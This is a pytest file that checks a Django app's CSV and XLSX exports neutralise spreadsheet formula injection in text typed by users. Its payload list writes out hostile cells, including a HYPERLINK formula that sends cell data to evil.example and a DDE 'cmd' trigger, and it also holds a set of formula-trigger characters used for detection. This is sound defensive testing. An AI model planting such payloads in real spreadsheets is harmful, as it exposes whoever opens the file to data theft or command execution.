"""Formula injection: text typed by users never runs as a formula when responses.csv or responses.xlsx is opened."""

import csv
import io

import openpyxl
import pytest

from exports.builders.tables import neutralise_formula
from exports.models import ExportFormat
from tests.factories import make_pack_data
from tests.test_export_builders import build

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+41 22 730 5111",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "\uff1d1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_formula_trigger_is_neutralised(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Supports coordination", "1+1=2", "e-mail: a@b.org", "", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_formula(text) == text


@pytest.fixture
def data(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    data = make_pack_data()
    for response, text in zip(data["responses"], PAYLOADS, strict=False):
        response.summary = text
        response.save(update_fields=["summary"])
    answer = data["responses"][0].answers.first()
    answer.text = "@SUM(1+1)*cmd|' /C calc'!A0"
    answer.save(update_fields=["text"])
    data["topics"][0].name = "=Topic"
    data["topics"][0].save(update_fields=["name"])
    return data


def test_csv_cells_that_could_start_a_formula_begin_with_an_apostrophe(data, tmp_path):
    rows = list(csv.reader(io.StringIO(build(data, ExportFormat.CSV, tmp_path).read_text("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    summaries = {row[header.index("Summary")] for row in body}
    assert summaries == {"'" + text for text in PAYLOADS[: len(body)]}
    assert "Stance: =Topic" in header  # the column title starts with words, so it is safe as it is
    first_cells = [cell for row in rows for cell in row]
    assert not [cell for cell in first_cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


# What makes a spreadsheet read a cell as a formula (the full-width equals sign too).
TRIGGERS = {"=", "+", "-", "@", "\t", "\r", "\uff1d"}


def quoted_formula_cells(workbook) -> int:
    """Checks that no cell of the workbook is a formula and that each text cell a spreadsheet would take
    for one is text with Excel's quote prefix; returns how many such cells there are."""
    count = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.lstrip(" \n")[:1] in TRIGGERS:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} lacks the quote prefix"
                    count += 1
    return count


def test_xlsx_cells_are_text_and_stay_text_when_edited(data, tmp_path):
    workbook = openpyxl.load_workbook(build(data, ExportFormat.XLSX, tmp_path))
    checked = quoted_formula_cells(workbook)
    summaries = [row[8] for row in workbook["Responses"].iter_rows(min_row=2, values_only=True)]
    # The text itself is kept exactly as typed: Excel shows it, the quote prefix keeps it from running.
    assert set(summaries) == set(PAYLOADS[: len(summaries)])
    assert checked >= len(summaries) + 1


@pytest.fixture
def hostile_everywhere(settings, tmp_path):
    """The formula entries of tests/hostile.py in every column users type: organisation names, answers,
    position summaries and quotes, topic names and question text."""
    from tests.hostile import CORPUS

    settings.MEDIA_ROOT = tmp_path / "media"
    data = make_pack_data()
    formulas = [entry.text for entry in CORPUS if entry.formula]
    for index, response in enumerate(data["responses"]):
        text = formulas[index % len(formulas)]
        organisation = response.organisation
        organisation.name = text
        organisation.save(update_fields=["name"])
        response.answers.update(text=text)
        response.positions.update(summary=text, quote=text)
    data["questions"][0].text = formulas[-1]
    data["questions"][0].save(update_fields=["text"])
    return data


def test_formulas_typed_into_any_column_are_neutralised_in_csv(hostile_everywhere, tmp_path):
    """Not just summaries: names, answers, summaries and quotes of positions, on every sheet of the CSV."""
    rows = list(csv.reader(io.StringIO(build(hostile_everywhere, ExportFormat.CSV, tmp_path).read_text("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in TRIGGERS]
    assert sum(cell.startswith("'") for cell in cells) >= len(hostile_everywhere["responses"]) * 2


def test_formulas_typed_into_any_column_stay_text_in_xlsx(hostile_everywhere, tmp_path):
    workbook = openpyxl.load_workbook(build(hostile_everywhere, ExportFormat.XLSX, tmp_path))
    risky = quoted_formula_cells(workbook)
    # Organisation, answer, position summary and quote of each response, on the three sheets.
    assert risky >= len(hostile_everywhere["responses"]) * 3
